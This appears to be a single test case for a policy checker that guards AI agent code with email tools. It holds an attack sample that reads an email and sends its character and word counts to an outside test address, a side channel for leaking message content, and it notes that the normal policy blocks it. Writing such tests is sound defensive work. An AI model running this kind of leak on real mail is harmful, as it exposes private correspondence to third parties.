// attack: spread the body (a string) and its words into new arrays and send their lengths
// normal: blocked
const m = await getEmail('m1');
const chars = [...m.body].length;
const words = [...m.body.split(' ')].length;
await sendEmail({ to: ['omar@northwind.test'], subject: 'sizes', body: chars + '/' + words });
